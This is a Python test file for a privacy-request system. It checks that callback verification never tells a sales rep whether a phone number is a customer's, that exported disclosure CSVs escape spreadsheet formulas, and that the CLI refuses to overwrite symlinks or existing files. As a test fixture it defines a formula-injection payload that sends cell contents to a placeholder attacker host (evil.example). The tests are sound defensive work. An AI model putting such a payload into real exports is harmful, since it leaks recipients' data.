"""Issue 17, inputs: a call-back is no test of who is a customer (a sales rep learns nothing from the answer; the
privacy officer still sees the figure), and the disclosure package's CSV never carries a live spreadsheet formula
(API and CLI); the CLI's --out never follows a link nor replaces a file without --force."""

from __future__ import annotations

import csv
import io

import pytest

from mamori.kernel.context import SYSTEM_ACTOR
from mamori.kernel.runtime import open_runtime
from mamori.kernel.settings import get_settings
from mamori.staff import service as staff_service
from tests.api.conftest import Api
from tests.factories import make_customer
from tests.rights.helpers import last_code
from tests.rights.test_cli import cli, code_for, j, one_line  # noqa: F401  (the demo `cli` fixture)

API = "/api/v1"
PHONE = "090-1111-2222"  # a customer's number
STRANGER = "090-7777-8888"  # nobody's number
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
EMAIL = "formula.person@example.jp"


@pytest.fixture
def api(runtime):
    return Api(runtime)


def _po(rt):
    with rt.transaction(SYSTEM_ACTOR, readonly=True) as s:
        return staff_service.actor_for(s, "po")


def _callback(client, csrf: str, phone: str) -> dict:
    h = {"X-CSRF-Token": csrf}
    r = client.post(
        f"{API}/rights", headers=h, json={"kind": "disclosure", "channel": "phone", "phones": [phone]}
    )
    assert r.status_code == 201, r.text
    rid, ident = r.json()["id"], r.json()["identifiers"][0]["id"]
    v = client.post(
        f"{API}/rights/{rid}/verify", headers=h, json={"method": "callback", "identifier_id": ident}
    )
    assert v.status_code == 200, v.text
    return v.json()


def test_a_sales_rep_cannot_learn_through_the_api_whether_a_number_is_a_customer(api):
    make_customer(api.rt, _po(api.rt), name="佐藤 花子", email="hanako@example.jp", phone=PHONE)
    sato, csrf = api.client("sato")
    known, unknown = _callback(sato, csrf, PHONE), _callback(sato, csrf, STRANGER)
    # the same answer, byte for byte, whether or not the number belongs to a customer
    assert known == unknown == {"verified": True, "customers_reached": None, "attempts_left": None}
    # the privacy officer sees the figure
    po, pcsrf = api.client("po")
    assert _callback(po, pcsrf, PHONE)["customers_reached"] == 1
    assert _callback(po, pcsrf, STRANGER)["customers_reached"] == 0
    # and the rep cannot read it elsewhere: the request itself is the privacy officer's (R-23-2)
    r = sato.post(
        f"{API}/rights", headers={"X-CSRF-Token": csrf}, json={"kind": "disclosure", "phones": [PHONE]}
    )
    shown = sato.get(f"{API}/rights/{r.json()['id']}")
    assert shown.status_code == 403 and shown.json()["rule_id"] == "R-23-2"


def test_the_public_verification_answers_in_the_same_shape_for_a_customer_and_a_stranger(
    api, published_notice
):
    make_customer(api.rt, _po(api.rt), name="佐藤 花子", email="hanako@example.jp", phone=PHONE)
    public, _ = api.client()
    answers = []
    for email in ("hanako@example.jp", "stranger@example.org"):
        r = public.post(
            f"{API}/privacy-requests",
            json={"kind": "disclosure", "email": email, "notice_version": published_notice},
        )
        rid, token = r.json()["request_id"], r.json()["token"]
        hdr = {"Mamori-Request-Token": token}
        code = last_code(api.rt, email)
        wrong = public.post(
            f"{API}/privacy-requests/{rid}/verify",
            headers=hdr,
            json={"code": "000000" if code != "000000" else "1"},
        )
        ok = public.post(f"{API}/privacy-requests/{rid}/verify", headers=hdr, json={"code": code})
        answers.append(
            (
                r.status_code,
                set(r.json()),
                wrong.status_code,
                set(wrong.json()),
                ok.status_code,
                set(ok.json()),
            )
        )
    assert answers[0] == answers[1]


def test_a_sales_rep_cannot_learn_through_the_cli_whether_a_number_is_a_customer(cli):  # noqa: F811
    rt = open_runtime(get_settings())
    try:
        with rt.transaction(SYSTEM_ACTOR, readonly=True) as s:
            po = staff_service.actor_for(s, "hoshino")
        make_customer(rt, po, name="森 健太", email="kenta@example.jp", phone=PHONE)
    finally:
        rt.close()
    said = {}
    for who in ("sato", "hoshino"):
        for phone in (PHONE, STRANGER):
            opened = j(cli("--as", who, "rights", "open", "disclosure", "--phone", phone, "--json"))
            args = ("rights", "verify", opened["id"], "--method", "callback", "--identifier")
            got = j(cli("--as", who, *args, opened["identifiers"][0]["id"], "--json"))
            text = cli("--as", who, *args, opened["identifiers"][0]["id"])
            said[who, phone] = (got, text.stdout)
    assert said["sato", PHONE] == said["sato", STRANGER]
    assert said["sato", PHONE][0] == {"verified": True, "customers_reached": None}
    assert "対象" not in said["sato", PHONE][1]
    assert said["hoshino", PHONE][0]["customers_reached"] == 1
    assert said["hoshino", STRANGER][0]["customers_reached"] == 0
    # an analyst may not take requests at all: refused in one line with the rule
    r = cli("--as", "ito", "rights", "open", "disclosure", "--phone", PHONE)
    assert r.exit_code == 3 and "R-23-2" in one_line(r)


def _formula_customer(rt) -> str:
    return make_customer(rt, _po(rt), name=FORMULA, email=EMAIL, phone=PHONE, employer="-1+1")


def test_the_disclosure_csv_from_the_api_carries_no_formula(api):
    _formula_customer(api.rt)
    po, csrf = api.client("po")
    h = {"X-CSRF-Token": csrf}
    r = po.post(
        f"{API}/rights", headers=h, json={"kind": "disclosure", "channel": "letter", "emails": [EMAIL]}
    )
    rid, ident = r.json()["id"], r.json()["identifiers"][0]["id"]
    po.post(f"{API}/rights/{rid}/send-code", headers=h, json={"identifier_id": ident})
    po.post(
        f"{API}/rights/{rid}/verify",
        headers=h,
        json={"method": "email_code", "identifier_id": ident, "code": last_code(api.rt, EMAIL)},
    )
    done = po.post(f"{API}/rights/{rid}/fulfil", headers=h, json={"format": "csv"})
    assert done.status_code == 200, done.text
    rows = list(csv.DictReader(io.StringIO(done.content.decode("utf-8-sig"), newline="")))
    values = {r["field"]: r["value"] for r in rows if r["source"] == "customers"}
    assert values["name"] == "'" + FORMULA and values["employer"] == "'-1+1"
    assert not [r for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]


def test_the_disclosure_csv_from_the_cli_carries_no_formula_and_out_is_never_a_trap(cli, tmp_path):  # noqa: F811
    rt = open_runtime(get_settings())
    try:
        with rt.transaction(SYSTEM_ACTOR, readonly=True) as s:
            po = staff_service.actor_for(s, "hoshino")
        make_customer(rt, po, name=FORMULA, email=EMAIL, phone=PHONE, employer="@SUM(1)")
    finally:
        rt.close()
    opened = j(cli("--as", "hoshino", "rights", "open", "disclosure", "--email", EMAIL, "--json"))
    rid, ident = opened["id"], opened["identifiers"][0]["id"]
    j(cli("--as", "hoshino", "rights", "send-code", rid, ident, "--json"))
    code = code_for(tmp_path, EMAIL)
    j(
        cli(
            "--as",
            "hoshino",
            "rights",
            "verify",
            rid,
            "--method",
            "email_code",
            "--identifier",
            ident,
            "--code",
            code,
            "--json",
        )
    )
    # an existing file and a link to one are refused in one line before anything is fulfilled
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    existing = tmp_path / "existing.csv"
    existing.write_text("mine\n")
    for target in (link, existing):
        r = cli("--as", "hoshino", "rights", "fulfil", rid, "--out", str(target), "--format", "csv")
        assert r.exit_code != 0 and "file_exists" in one_line(r) and "--force" in one_line(r)
    assert victim.read_text() == "precious\n" and existing.read_text() == "mine\n" and link.is_symlink()
    assert j(cli("--as", "hoshino", "rights", "show", rid, "--json"))["status"] != "closed"
    # --force replaces the link itself, never the file it points at
    j(
        cli(
            "--as",
            "hoshino",
            "rights",
            "fulfil",
            rid,
            "--out",
            str(link),
            "--format",
            "csv",
            "--force",
            "--json",
        )
    )
    assert victim.read_text() == "precious\n" and not link.is_symlink()
    assert (link.stat().st_mode & 0o777) == 0o600
    rows = list(csv.DictReader(io.StringIO(link.read_text(encoding="utf-8-sig"), newline="")))
    values = {r["field"]: r["value"] for r in rows if r["source"] == "customers"}
    assert values["name"] == "'" + FORMULA and values["employer"] == "'@SUM(1)"
